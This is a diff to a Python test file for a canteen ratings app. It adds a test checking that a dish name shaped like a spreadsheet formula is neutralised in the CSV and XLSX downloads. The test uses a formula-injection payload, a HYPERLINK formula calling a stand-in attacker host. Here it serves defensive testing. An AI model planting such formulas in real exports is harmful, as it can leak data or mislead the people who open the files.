@@ -1,5 +1,6 @@
 """Ratings: only employees, only dishes they could have eaten; the canteen sees the averages."""
 
+import csv
 import io
 import re
 from datetime import date, timedelta
@@ -181,3 +182,17 @@ def test_ratings_by_month_are_summed_in_the_database_with_month_names(client, au
     heads = re.findall(r'<th scope="col" class="num">([^<]+)</th>',
                        client.get("/canteen/ratings").get_data(as_text=True))
     assert heads[-3:] == ["October 2026", "November 2026", "December 2026"]
+
+
+def test_a_dish_named_like_a_formula_is_text_in_both_downloads(client, auth, make_user, week,
+                                                               at):
+    evil = '=HYPERLINK("http://evil.example/?x","y")'
+    _item("宫保鸡丁", MONDAY).dish.name_zh = evil
+    db.session.commit()
+    _rated_by_employees(client, auth, make_user, evil, "5")
+    auth.login(make_user("employee", "canteen"))
+    text = client.get("/canteen/ratings.csv").get_data(as_text=True).lstrip("\ufeff")
+    assert list(csv.reader(io.StringIO(text)))[1][0] == "'" + evil
+    sheet = load_workbook(io.BytesIO(client.get("/canteen/ratings.xlsx").data)).active
+    cell = next(c for c in sheet["A"] if c.value and "HYPERLINK" in str(c.value))
+    assert cell.value == evil and cell.data_type == "s"
